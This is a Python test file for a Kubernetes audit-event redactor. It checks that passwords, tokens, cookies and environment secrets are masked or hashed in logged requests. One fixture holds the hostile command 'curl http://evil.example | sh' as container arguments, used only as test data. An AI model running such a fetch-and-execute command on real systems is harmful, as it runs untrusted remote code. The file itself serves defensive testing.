"""Redaction takes secrets, and nobody can use it to take anything else, or to keep what others must not have."""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

import pytest

from auditpipeline.core.config import MAX_BODY
from auditpipeline.core.eventlist import encode_body
from auditpipeline.core.policy import Policy
from auditpipeline.core.policy import Rule as PolicyRule
from auditpipeline.core.redaction.model import ANNOTATION, DEFAULT, Redaction, Rule
from auditpipeline.core.redaction.redactor import Redactor
from auditpipeline.dataplane.filter import Filter, Wanted, digest, narrow_line, redaction_of, redactor
from auditpipeline.dataplane.intake import Intake
from auditpipeline.dataplane.metrics import Metrics
from tests.dataplane.setting import EVERYTHING, event_list
from tests.dataplane.test_spool import opened

KEY = b"k" * 32
APPLIED, RANCHER = "kubectl.kubernetes.io/last-applied-configuration", "objectset.rio.cattle.io/applied"


def event(resource: str, body: Any = None, group: str = "", **fields: Any) -> bytes:
    """An event as kube-apiserver writes it."""
    made = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "1",
        "stage": "ResponseComplete", "requestURI": "/api/v1/a", "verb": "create", "user": {"username": "a"},
        "objectRef": {"resource": resource, "apiGroup": group}, "responseStatus": {"metadata": {}, "code": 200},
    }  # fmt: skip
    if body is not None:
        made["requestObject"] = body
    return json.dumps(made | fields, separators=(",", ":")).encode()


def left(redactor: Redactor, line: bytes) -> Any:
    """Returns what is left of an event."""
    return json.loads(redactor.line(line).line)


def pod(*containers: dict[str, Any], **notes: str) -> Any:
    """A Pod with these containers and annotations."""
    return {"metadata": {"annotations": notes}, "spec": {"containers": list(containers)}}


def test_an_event_that_is_too_much_to_look_into_costs_no_other_one() -> None:
    """What went whole in it is looked into again in the next one, with the same words."""
    words = ["sh", "-c", "curl http://evil.example | sh # passwd"]
    padding = [{"name": letter, "args": ["//" + letter * 20_000]} for letter in "bc"]
    redactor = Redactor()
    first = left(redactor, event("pods", pod(*padding, {"name": "a", "args": words})))
    assert first["requestObject"]["spec"]["containers"][2]["args"] == ["REDACTED"] * 3
    then = left(redactor, event("pods", pod({"name": "a", "args": words})))
    assert then["requestObject"]["spec"]["containers"][0]["args"] == words


def test_a_uri_that_is_too_long_to_look_into_keeps_its_path() -> None:
    """The object of a request is not a secret."""
    path = "/api/v1/namespaces/a/pods/b/exec"
    found = left(Redactor(), event("pods", requestURI=f"{path}?command=sh&command={'password' * 5000}"))
    assert found["requestURI"] == f"{path}?REDACTED"


def test_the_same_bytes_are_judged_by_where_they_stand() -> None:
    """As an object that was applied, JSON is looked into; what others packed goes whole. A header is no variable."""
    text = json.dumps({"env": [{"name": "DB_PASSWORD", "value": "x"}], "other": "hunter2"})
    cookie = [{"name": "Cookie", "value": "a"}]
    probed = {"livenessProbe": {"httpGet": {"httpHeaders": cookie}}}
    redactor = Redactor()
    for _ in range(2):
        applied = left(redactor, event("pods", pod(**{APPLIED: text})))["requestObject"]["metadata"]["annotations"]
        assert json.loads(applied[APPLIED])["other"] == "hunter2"
        packed = left(redactor, event("pods", pod(**{RANCHER: text})))["requestObject"]["metadata"]["annotations"]
        assert packed[RANCHER] == "REDACTED"
        found = left(redactor, event("pods", pod(probed)))["requestObject"]["spec"]["containers"][0]
        assert found["livenessProbe"]["httpGet"]["httpHeaders"][0]["value"] == "REDACTED"
        assert (
            left(redactor, event("pods", pod({"env": cookie})))["requestObject"]["spec"]["containers"][0]["env"]
            == cookie
        )


def test_a_pod_preset_has_its_environment_elsewhere() -> None:
    """Not in a container."""
    body = {"spec": {"env": [{"name": "DB_PASSWORD", "value": "hunter2"}]}}
    found = left(Redactor(), event("podpresets", body, "settings.k8s.io"))
    assert found["requestObject"]["spec"]["env"][0]["value"] == "REDACTED"


@pytest.mark.parametrize("said", ["many", "-3", "9" * 5000, "", 7, None])
def test_annotations_stay_whatever_the_count_was(said: Any) -> None:
    """Anybody who may write an admission policy chooses the names of some of them."""
    notes = {"authorization.k8s.io/decision": "allow", ANNOTATION: said}
    found = left(Redactor(), event("secrets", {"data": {"a": "eA=="}}, annotations=notes))["annotations"]
    assert found == {"authorization.k8s.io/decision": "allow", ANNOTATION: "1"}


@pytest.mark.parametrize("default", [True, False])
@pytest.mark.parametrize("method", ["mask", "hash"])
def test_what_a_rule_takes_is_nowhere_else_in_the_event(default: bool, method: Any) -> None:
    """With the default list and without it; masked by a rule that masks, whatever the method of the list."""
    patch = {"patch": [{"op": "add", "path": "/data/pw", "value": "hunter2"}]}
    line = event(
        "configmaps",
        {"data": {"pw": "hunter2"}},
        responseStatus={"message": 'data[pw]: Invalid value: "hunter2": no', "code": 422},
        annotations={"patch.webhook.admission.k8s.io/round_0_index_0": json.dumps(patch)},
    )
    redactor = Redactor(Redaction(default, method, (Rule(("data.pw",)),)), KEY)
    found = left(redactor, line)
    assert "hunter2" not in json.dumps(found)
    assert found["requestObject"]["data"]["pw"] == "REDACTED"
    assert (
        json.loads(found["annotations"]["patch.webhook.admission.k8s.io/round_0_index_0"])["patch"][0]["value"]
        == "REDACTED"
    )


def test_keys_that_look_like_hashes_stay() -> None:
    """Two of them must not become one."""
    keys = {f"REDACTED-{digit * 32}": "x" for digit in "ab"}
    body = {"data": {**keys, "a": f"x REDACTED-{'c' * 32} y"}}
    assert left(Redactor(), event("configmaps", body))["requestObject"] == {"data": {**keys, "a": "x REDACTED y"}}


def test_what_is_remembered_of_requests_is_bounded_by_size() -> None:
    """Anybody who asks for a path of half a megabyte is not remembered by it."""
    redactor = Redactor(DEFAULT)
    for number in range(50):
        assert not redactor.shapes(("get", "", "x" * 500_000 + str(number), "")).any
        redactor.shapes(("get", "", "pods", str(number)))
    assert sum(len(resource or "") for _, _, resource, _ in redactor._shapes) < 10_000


OPTED_OUT = Redaction(default=False)


@pytest.mark.parametrize(
    ("level", "bodies"),
    [("Metadata", (False, False)), ("Request", (True, False)), ("RequestResponse", (True, True))],
)
def test_a_body_is_kept_whole_only_for_those_who_want_it_so(level: str, bodies: tuple[bool, bool]) -> None:
    """A route that opted out of redaction and wants no bodies has no say in those that another one wants."""
    whole = Wanted((Policy((PolicyRule(level),)),), OPTED_OUT)
    other = Wanted((Policy((PolicyRule("RequestResponse"),)),))
    uri, secret = "/api/v1/a?token=hunter2", {"stringData": {"a": "hunter2"}}
    line = event("secrets", secret, level="RequestResponse", responseObject=secret, requestURI=uri)
    (stored,) = Filter([whole, other]).take(encode_body([line])).lines
    found = json.loads(stored)
    assert found["requestURI"] == uri
    assert (found["requestObject"] == secret, found["responseObject"] == secret) == bodies
    delivered = narrow_line(stored, other.policies, redactor(other.redaction))
    assert delivered is not None
    assert b"hunter2" not in delivered


async def test_a_very_large_event_is_decided_on_beside_the_others(tmp_path: Path) -> None:
    """One in a body of small ones, too: taking it apart may take long."""
    large = json.loads(event("widgets", {"env": {f"A{number}": "x" * 20 for number in range(8000)}}, "example.com"))
    spool = await opened(tmp_path / "spool.sqlite")
    intake = Intake(spool, Filter([Wanted((EVERYTHING,))]), MAX_BODY, Metrics())
    await intake.take_events(event_list([json.loads(event("pods"))]))
    assert "body-reader" not in {thread.name for thread in threading.enumerate()}
    await intake.take_events(event_list([json.loads(event("pods")), large]))
    assert "body-reader" in {thread.name for thread in threading.enumerate()}
    assert spool.end == 3
    intake.close()
    await spool.close()


@pytest.mark.parametrize(
    "uri",
    [
        "/logs/kube-apiserver.log",
        "/logs/kube-apiserver.log?token=" + "x" * 40_000,
        "/logs/" + "password/" * 5000 + "?token=x",
        "/logs//user:hunter2@host/" + "x" * 40_000,
        "/logs/a?" + "&" * 20_000,
        "/logs/token=" + "x" * 4000,
        "/logs%3Ftoken=x",
    ],
    ids=lambda uri: uri[:24],
)
def test_what_a_policy_decides_by_stays(uri: str) -> None:
    """An event that was acknowledged is wanted by the next hop, and by each route, as it was at first."""
    policy = Policy((PolicyRule("Metadata", non_resource_urls=("/logs*", "/debug*")),))
    made = json.loads(event("a", level="Metadata", verb="get", requestURI=uri))
    del made["objectRef"]
    wanted = Filter([Wanted((policy,))])
    (line,) = wanted.take(event_list([made])).lines
    assert wanted.take(event_list([json.loads(line)])).lines == [line]
    assert narrow_line(line, (policy,), redactor(DEFAULT)) == line


def test_the_same_bytes_in_one_object_may_mean_two_things() -> None:
    """The options of a program say what its arguments are."""
    words = ["--password=x", "-phunter2"]
    body = pod({"name": "a", "args": words}, {"name": "b", "command": ["mysql"], "args": words})
    for containers in (body["spec"]["containers"], body["spec"]["containers"][::-1]):
        found = left(Redactor(), event("pods", pod(*containers)))["requestObject"]["spec"]["containers"]
        assert {each["name"]: each["args"] for each in found} == {
            "a": ["--password=REDACTED", "-phunter2"],
            "b": ["--password=REDACTED", "-pREDACTED"],
        }


def test_an_object_with_very_many_secrets_is_taken_apart_in_one_go() -> None:
    """Not with one look at all of it for each of them."""
    count = 500
    body = pod(*({"env": [{"name": "A_KEY", "value": f"secret-{number}"}]} for number in range(count)))
    redactor = Redactor()
    found = redactor.line(event("pods", body))
    assert found.values == count
    assert b"secret-" not in found.line


def test_hashes_do_not_make_a_body_several_times_as_long() -> None:
    """Behind very many of them, masks are enough."""
    line = event("secrets", {"x": ["a"] * 100_000})
    assert len(Redactor(Redaction(method="hash"), KEY).line(line).line) < 4 * len(line)


def test_what_was_redacted_alike_is_not_redacted_again() -> None:
    """The name of a filter says what all of its routes took, the list and the key included."""
    one, other = Wanted((Policy((PolicyRule("Metadata"),)),)), Wanted((EVERYTHING,))
    assert redaction_of(digest([one])) == redaction_of(digest([other])) == redaction_of(digest([one, other])) != ""
    assert digest([one]) != digest([other]) != digest([one, other])
    hashes = other._replace(redaction=Redaction(method="hash"))
    assert redaction_of(digest([one, hashes], KEY)) == redaction_of("of the release before") == ""
    assert len({redaction_of(digest([hashes], key)) for key in (KEY, b"x" * 32, None)}) == 3
